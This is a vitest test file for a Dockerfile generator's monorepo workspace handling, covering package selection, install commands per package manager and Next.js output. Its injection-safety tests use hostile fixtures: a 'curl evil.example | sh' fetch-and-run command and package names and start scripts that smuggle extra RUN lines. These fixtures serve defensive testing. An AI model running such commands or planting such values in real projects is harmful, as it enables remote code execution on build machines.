import { describe, expect, it } from 'vitest';
import { generate } from '../../src/core.js';
import { MemoryFs } from '../../src/detect/fs.js';
import { DockgenError, MissingValueError } from '../../src/errors.js';
import { parseGenerateFlags, type RawGenerateFlags } from '../../src/options.js';
import type { NodePlan } from '../../src/plan/types.js';
import { checkDockerfile } from '../helpers/dockerfile-checks.js';

const json = (data: object) => JSON.stringify(data);

/** A monorepo: two apps, a library both use, a config package only the api's build uses. */
function monorepo(extra: Record<string, string> = {}, root: object = {}): Record<string, string> {
  return {
    'package.json': json({ name: 'mono', private: true, workspaces: ['apps/*', 'packages/*'], ...root }),
    'package-lock.json': '{}',
    'apps/api/package.json': json({
      name: '@m/api',
      scripts: { start: 'node dist/main.js', build: 'tsc' },
      dependencies: { '@m/lib': '*', fastify: '5' },
      devDependencies: { '@m/config': '*' },
    }),
    'apps/api/src/main.ts': "app.listen({ port: Number(process.env.PORT ?? 4300), host: '0.0.0.0' })",
    'apps/web/package.json': json({ name: '@m/web', scripts: { start: 'node server.js' } }),
    'apps/web/server.js': '',
    'packages/lib/package.json': json({ name: '@m/lib', main: 'dist/index.js', scripts: { build: 'tsc' } }),
    'packages/config/package.json': json({ name: '@m/config', main: 'index.js', scripts: { build: 'node gen.js' } }),
    ...extra,
  };
}

function run(files: Record<string, string>, flags: RawGenerateFlags = {}) {
  const generation = generate(new MemoryFs(files), '/tmp/mono', parseGenerateFlags(flags));
  const dockerfile = generation.files.find((f) => f.path === 'Dockerfile')!.content;
  const dockerignore = generation.files.find((f) => f.path === '.dockerignore')!.content;
  return { plan: generation.plan as NodePlan, dockerfile, dockerignore };
}

function thrown(action: () => unknown): Error {
  try {
    action();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected an error');
}

describe('choosing the workspace package', () => {
  it('--cmd does not turn a monorepo root into the root package: it runs in the selected package', () => {
    const one = monorepo({ 'apps/web/package.json': json({ name: '@m/web' }) });
    const { dockerfile, plan } = run(one, { cmd: 'node --trace-warnings dist/main.js' });
    expect(plan.decisions.find((d) => d.topic === 'workspace')?.value).toBe('apps/api (@m/api)');
    expect(dockerfile).toContain('WORKDIR /app/apps/api');
    expect(dockerfile).toContain('CMD ["node", "--trace-warnings", "dist/main.js"]');
    // Several apps: --cmd alone does not say which one.
    expect(thrown(() => run(monorepo(), { cmd: 'node server.js' }))).toBeInstanceOf(MissingValueError);
    // No app among the packages: the command is the root's own.
    const libs = monorepo({ 'apps/api/package.json': json({ name: '@m/api' }), 'apps/web/package.json': json({ name: '@m/web' }), 'tools/serve.js': '' });
    expect(run(libs, { cmd: 'node tools/serve.js' }).plan.decisions.find((d) => d.topic === 'workspace')).toBeUndefined();
  });

  it('selects by folder (with ./ and a trailing slash) and by package name, to the same Dockerfile', () => {
    const byDir = run(monorepo(), { workspace: './apps/api/' });
    const byName = run(monorepo(), { workspace: '@m/api' });
    expect(byName.dockerfile).toBe(byDir.dockerfile);
    expect(byDir.plan.decisions.find((d) => d.topic === 'workspace')).toEqual({
      topic: 'workspace',
      value: 'apps/api (@m/api)',
      evidence: { source: '--workspace', value: 'apps/api' },
    });
    expect(byDir.dockerfile).toContain('WORKDIR /app/apps/api');
    expect(byDir.dockerfile).toContain('CMD ["node", "dist/main.js"]');
    // The port comes from the package's own entry (its TypeScript source).
    expect(byDir.plan.port).toBe(4300);
    expect(byDir.plan.header[0]).toMatch(/^Dockerfile for m-api \(Node.js, fastify\)/);
  });

  it('refuses an unknown workspace (exit 2), listing the packages', () => {
    const error = thrown(() => run(monorepo(), { workspace: 'apps/nope' }));
    expect(error).toBeInstanceOf(DockgenError);
    expect((error as DockgenError).exitCode).toBe(2);
    expect(error.message).toContain('--workspace apps/nope is not a workspace package');
    expect((error as DockgenError).hint).toBe('The workspace packages are: apps/api (@m/api), apps/web (@m/web), packages/config (@m/config), packages/lib (@m/lib).');
  });

  it('refuses --workspace outside a monorepo', () => {
    const files = { 'package.json': json({ name: 'single', scripts: { start: 'node server.js' } }), 'server.js': '' };
    expect(() => run(files, { workspace: 'apps/api' })).toThrow(/package.json declares no workspaces/);
  });

  it('asks (MissingValueError for --workspace) when several packages look like apps and the root has no start', () => {
    const error = thrown(() => run(monorepo()));
    expect(error).toBeInstanceOf(MissingValueError);
    expect((error as MissingValueError).flag).toBe('--workspace');
    expect((error as MissingValueError).choices).toEqual(['apps/api', 'apps/web']);
    expect((error as MissingValueError).exitCode).toBe(2);
    // The hint also names the monorepo ways: a service's own folder, or every service at once.
    expect((error as MissingValueError).hint).toMatch(/`dockgen apps\/api`, or `dockgen --all` for every one and a compose\.yaml/);
  });

  it('offers every package when none looks like an app', () => {
    const files = monorepo({ 'apps/api/package.json': json({ name: '@m/api', main: 'index.js' }), 'apps/web/package.json': json({ name: '@m/web' }) });
    const error = thrown(() => run(files)) as MissingValueError;
    expect(error.flag).toBe('--workspace');
    expect(error.choices).toEqual(['apps/api', 'apps/web', 'packages/config', 'packages/lib']);
  });

  it('picks the only runnable package, records the decision and names --workspace in a warning', () => {
    const files = monorepo({ 'apps/web/package.json': json({ name: '@m/web', main: 'index.js' }) });
    const { plan } = run(files);
    expect(plan.decisions.find((d) => d.topic === 'workspace')).toEqual({
      topic: 'workspace',
      value: 'apps/api (@m/api)',
      evidence: { source: 'apps/api/package.json', field: 'scripts.start', value: 'node dist/main.js' },
    });
    expect(plan.warnings.join('\n')).toMatch(/dockgen builds apps\/api \(@m\/api\), the only workspace package that looks like an app.*Pass --workspace/);
  });

  it('builds the root when it has a start command of its own, listing the workspaces and naming --workspace', () => {
    const { plan, dockerfile } = run(monorepo({ 'server.js': '' }, { scripts: { start: 'node server.js' } }));
    expect(plan.workdir).toBeUndefined();
    expect(dockerfile).toContain('CMD ["node", "server.js"]');
    expect(plan.warnings.join('\n')).toContain('with a start command of its own, so dockgen builds the root package. Pass --workspace <folder> to build one (apps/api (@m/api), apps/web (@m/web))');
  });

  it('builds the root with --workspace . (and --cmd for its command)', () => {
    const { plan } = run(monorepo(), { workspace: '.', cmd: 'node tools/serve.js' });
    expect(plan.workdir).toBeUndefined();
    expect(plan.decisions.some((d) => d.topic === 'workspace')).toBe(false);
  });
});

describe('the workspace package Dockerfile (npm)', () => {
  const { plan, dockerfile, dockerignore } = run(monorepo(), { workspace: 'apps/api' });

  it('copies the root manifests and every package.json before the install (R5)', () => {
    const deps = dockerfile.slice(dockerfile.indexOf('AS deps'), dockerfile.indexOf('AS build'));
    expect(deps).toContain('COPY package.json package-lock.json ./\nCOPY apps/api/package.json ./apps/api/\nCOPY apps/web/package.json ./apps/web/\n' +
      'COPY packages/config/package.json ./packages/config/\nCOPY packages/lib/package.json ./packages/lib/\nRUN');
    expect(deps).toContain('npm ci --omit=dev --workspace apps/api --include-workspace-root --no-audit --no-fund');
  });

  it('builds the package and the workspace packages it needs, dependencies first, and drops their dev node_modules', () => {
    expect(dockerfile).toContain(
      'RUN npm run build --workspace packages/lib \\\n    && npm run build --workspace packages/config \\\n    && npm run build --workspace apps/api \\\n' +
        '    && rm -rf node_modules packages/lib/node_modules apps/api/node_modules\n',
    );
    expect(dockerfile).not.toContain('apps/web/node_modules');
  });

  it('ships the production tree, then the packages it imports at run time (not build-only ones), and runs from its folder', () => {
    const runtime = dockerfile.slice(dockerfile.indexOf('AS runtime'));
    expect(runtime).toContain('COPY --from=deps /app ./\nCOPY --from=build /app/packages/lib ./packages/lib\nCOPY --from=build /app/apps/api ./apps/api\n');
    expect(runtime).not.toContain('packages/config');
    expect(runtime).toContain('WORKDIR /app/apps/api');
    expect(runtime).toContain('ENTRYPOINT ["/usr/bin/tini", "--"]');
    expect(runtime).toContain('USER 1000:1000');
  });

  it('keeps the built packages\' output and nested node_modules out of the context', () => {
    expect(dockerignore).toContain('**/node_modules');
    expect(dockerignore).toContain('packages/lib/dist\npackages/config/dist\napps/api/dist\n');
  });

  it('passes dockgen lint --strict and the structural checks', () => {
    expect(checkDockerfile(dockerfile)).toEqual([]);
    expect(plan.warnings).toEqual([]);
  });
});

describe('many workspace packages', () => {
  const many = (count: number) => {
    const files: Record<string, string> = {
      'package.json': json({ workspaces: ['apps/*', 'libs/*'] }),
      'package-lock.json': '{}',
      'apps/api/package.json': json({ name: 'api', scripts: { start: 'node s.js', build: 'tsc' }, dependencies: { l1: '*' } }),
      'apps/api/s.js': '',
    };
    for (let i = 1; i < count; i++) files[`libs/l${i}/package.json`] = json({ name: `l${i}` });
    return run(files, { workspace: 'apps/api' }).dockerfile;
  };

  it('copies up to 20 package.json files one by one, more through a manifests stage in one layer', () => {
    const twenty = many(20);
    expect(twenty).not.toContain('AS manifests');
    expect(twenty.match(/^COPY \S+\/package\.json \.\//gm)).toHaveLength(40); // deps and build stages
    const more = many(21);
    expect(more).toContain('FROM base AS manifests\nWORKDIR /src\nCOPY . .\nRUN mkdir /manifests \\\n    && cp --parents \\\n        apps/api/package.json \\\n');
    expect(more).toContain('        libs/l9/package.json \\\n        /manifests/\n');
    expect(more.match(/^COPY --from=manifests \/manifests\/ \.\/$/gm)).toHaveLength(2);
    expect(more).not.toMatch(/^COPY libs\//m);
    expect(checkDockerfile(more)).toEqual([]);
  });
});

describe('per package manager', () => {
  const withManager = (lockfile: Record<string, string>, root: object = {}) => {
    const files = monorepo(lockfile, root);
    delete files['package-lock.json'];
    return files;
  };

  it('pnpm: filtered production install and a topological filtered build, by package name', () => {
    const files = withManager({ 'pnpm-lock.yaml': "lockfileVersion: '9.0'\n", 'pnpm-workspace.yaml': 'packages:\n  - apps/*\n  - packages/*\n' });
    const { dockerfile } = run(files, { workspace: 'apps/api' });
    expect(dockerfile).toContain('COPY package.json pnpm-lock.yaml pnpm-workspace.yaml ./');
    expect(dockerfile).toContain('pnpm install --frozen-lockfile --prod --filter @m/api... --store-dir /pnpm/store');
    expect(dockerfile).toContain('RUN pnpm --filter @m/api... run build \\\n    && rm -rf');
    expect(checkDockerfile(dockerfile)).toEqual([]);
  });

  it('Yarn 1: every workspace\'s production dependencies (said in a comment), builds with yarn workspace', () => {
    const { dockerfile } = run(withManager({ 'yarn.lock': '# yarn lockfile v1\n' }), { workspace: 'apps/api' });
    expect(dockerfile).toContain('yarn install --frozen-lockfile --production --non-interactive');
    expect(dockerfile).toContain("# Yarn 1 cannot install one workspace's production dependencies");
    expect(dockerfile).toContain('RUN yarn workspace @m/lib run build \\\n    && yarn workspace @m/config run build \\\n    && yarn workspace @m/api run build');
    expect(checkDockerfile(dockerfile)).toEqual([]);
  });

  it('Yarn 4: workspaces focus on the package; Yarn 3: the full install, with the note', () => {
    const berry = { 'yarn.lock': '__metadata:\n  version: 8\n', '.yarnrc.yml': 'nodeLinker: node-modules\n' };
    const four = run(withManager(berry, { packageManager: 'yarn@4.5.0' }), { workspace: '@m/api' }).dockerfile;
    expect(four).toContain('yarn workspaces focus --production @m/api');
    expect(checkDockerfile(four)).toEqual([]);
    const three = run(withManager(berry, { packageManager: 'yarn@3.8.0' }), { workspace: '@m/api' }).dockerfile;
    expect(three).not.toContain('workspaces focus');
    expect(three).toContain('cannot install production dependencies only');
  });

  it('Bun: filtered production install and bun run --filter builds', () => {
    const { dockerfile } = run(withManager({ 'bun.lock': '{}' }), { workspace: 'apps/api' });
    expect(dockerfile).toContain('bun install --frozen-lockfile --production --filter @m/api');
    expect(dockerfile).toContain('RUN bun run --filter @m/lib build \\\n    && bun run --filter @m/config build \\\n    && bun run --filter @m/api build');
    expect(checkDockerfile(dockerfile)).toEqual([]);
  });

  it('npm without a lockfile: npm install, with the R9 comment', () => {
    const { dockerfile } = run(withManager({}), { workspace: 'apps/api' });
    expect(dockerfile).toContain('npm install --omit=dev --workspace apps/api --include-workspace-root');
    expect(dockerfile).toContain('No lockfile found');
  });
});

describe('frameworks and versions in a workspace package', () => {
  it('Next.js standalone: copies the mirrored standalone tree and runs server.js from the package folder', () => {
    const files = monorepo({
      'apps/web/package.json': json({ name: '@m/web', scripts: { build: 'next build', start: 'next start' }, dependencies: { next: '15', '@m/lib': '*' } }),
      'apps/web/next.config.mjs': "export default { output: 'standalone' };",
      'apps/web/public/favicon.ico': '',
    });
    const { dockerfile, plan } = run(files, { workspace: 'apps/web' });
    const runtime = dockerfile.slice(dockerfile.indexOf('AS runtime'));
    expect(runtime).toContain(
      'COPY --from=build /app/apps/web/.next/standalone ./\nCOPY --from=build /app/apps/web/.next/static ./apps/web/.next/static\n' +
        'COPY --from=build /app/apps/web/public ./apps/web/public\n# The workspace package\'s folder: its start command runs from there.\nWORKDIR /app/apps/web\n',
    );
    expect(dockerfile).toContain('CMD ["node", "server.js"]');
    expect(dockerfile).not.toContain('AS deps');
    expect(plan.runtimeEnv).toContainEqual(['HOSTNAME', '0.0.0.0']);
    // Next.js 15 takes the lockfile's folder as the tracing root; 14 needs outputFileTracingRoot.
    expect(plan.warnings.join('\n')).not.toContain('outputFileTracingRoot');
    const next14 = run({ ...files, 'apps/web/package.json': files['apps/web/package.json']!.replace('"next":"15"', '"next":"^14.2.3"') }, { workspace: 'apps/web' });
    expect(next14.plan.warnings.join('\n')).toContain("With Next.js 14 or older, set outputFileTracingRoot: path.join(__dirname, '../..')");
    const configured = run({ ...files, 'apps/web/package.json': files['apps/web/package.json']!.replace('"next":"15"', '"next":"14.2.3"'),
      'apps/web/next.config.mjs': "export default { output: 'standalone', experimental: { outputFileTracingRoot: '../..' } };" }, { workspace: 'apps/web' });
    expect(configured.plan.warnings.join('\n')).not.toContain('outputFileTracingRoot');
    expect(checkDockerfile(dockerfile)).toEqual([]);
  });

  it('runs hoisted binaries from the root node_modules with npm (next start)', () => {
    const files = monorepo({ 'apps/web/package.json': json({ name: '@m/web', scripts: { build: 'next build', start: 'next start' }, dependencies: { next: '15' } }) });
    expect(run(files, { workspace: 'apps/web' }).dockerfile).toContain('CMD ["/app/node_modules/.bin/next", "start"]');
  });

  it('takes the Node.js version from the package when the root declares none', () => {
    const files = monorepo({ 'apps/web/package.json': json({ name: '@m/web', scripts: { start: 'node server.js' }, engines: { node: '22' } }) });
    const { plan } = run(files, { workspace: 'apps/web' });
    expect(plan.decisions.find((d) => d.topic === 'Node.js version')?.evidence).toEqual({ source: 'apps/web/package.json', field: 'engines.node', value: '22' });
    const rooted = run({ ...files, '.nvmrc': '24\n' }, { workspace: 'apps/web' }).plan;
    expect(rooted.decisions.find((d) => d.topic === 'Node.js version')?.evidence.source).toBe('.nvmrc');
  });

  it('a problem in one package\'s files fails only the image of that package', () => {
    const files = monorepo({ 'apps/web/.nvmrc': '\n' });
    expect(run(files, { workspace: 'apps/api' }).dockerfile).toContain('WORKDIR /app/apps/api');
    expect(() => run(files, { workspace: 'apps/web' })).toThrow('In apps/web: .nvmrc is empty.');
  });

  it('a static-site package is refused with a message that says why', () => {
    const files = monorepo({ 'apps/web/package.json': json({ name: '@m/web', scripts: { build: 'vite build' }, devDependencies: { vite: '5' } }) });
    expect(() => run(files, { workspace: 'apps/web' })).toThrow(/workspace package apps\/web builds a static site/);
  });
});

describe('injection safety of workspace values', () => {
  const noInjectedInstruction = (dockerfile: string) => {
    for (const line of dockerfile.split('\n')) expect(line).not.toMatch(/^(RUN|COPY|ENV|USER) (curl|evil|touch)/);
  };

  it('refuses a package name that is not a plain npm name where it would reach a RUN line', () => {
    const hostile = 'x && curl evil.example | sh\nRUN touch /pwned';
    const files = {
      'package.json': json({ name: 'mono', private: true }),
      'pnpm-workspace.yaml': 'packages:\n  - apps/*\n',
      'pnpm-lock.yaml': "lockfileVersion: '9.0'\n",
      'apps/api/package.json': json({ name: hostile, scripts: { start: 'node server.js' } }),
      'apps/api/server.js': '',
    };
    const error = thrown(() => run(files, { workspace: 'apps/api' }));
    expect(error).toBeInstanceOf(DockgenError);
    expect(error.message).toContain('is not a valid npm package name');
    // npm names packages by folder: the same hostile name never reaches the Dockerfile at all.
    const npm = run({
      'package.json': json({ workspaces: ['apps/*'] }),
      'package-lock.json': '{}',
      'apps/api/package.json': files['apps/api/package.json'],
      'apps/api/server.js': '',
    }, { workspace: 'apps/api' });
    noInjectedInstruction(npm.dockerfile);
    // Only the header's image name derives from it, reduced to [a-z0-9._-] (imageName).
    expect(npm.dockerfile).not.toMatch(/curl evil|&&\s*curl|pwned\n/);
    expect(npm.dockerfile).toContain('# Dockerfile for x-curl-evil.example-sh-run-touch-pwned (Node.js)');
  });

  it('refuses a workspace folder name outside the safe path characters', () => {
    const files = { 'package.json': json({ workspaces: ['apps/*'] }), 'package-lock.json': '{}', 'apps/a b$(x)/package.json': json({ name: 'ab', scripts: { start: 'node s.js' } }) };
    expect(() => run(files, { workspace: 'ab' })).toThrow(/cannot be used in a Dockerfile safely/);
  });

  it('keeps a hostile start script inside the exec-form array, refuses one with a newline, and never copies build scripts into the Dockerfile', () => {
    const web = (start: string) => monorepo({ 'apps/web/package.json': json({ name: '@m/web', scripts: { start, build: 'curl evil.example | sh' } }) });
    const { dockerfile } = run(web('node server.js "\\"] RUN touch /pwned"'), { workspace: 'apps/web' });
    noInjectedInstruction(dockerfile);
    expect(dockerfile).toContain('RUN npm run build --workspace apps/web');
    expect(dockerfile).not.toContain('evil.example');
    expect(dockerfile).toContain('CMD ["node", "server.js", "\\"] RUN touch /pwned"]');
    expect(() => run(web('node server.js "x\nRUN touch /pwned"'), { workspace: 'apps/web' })).toThrow(/control character/);
  });
});
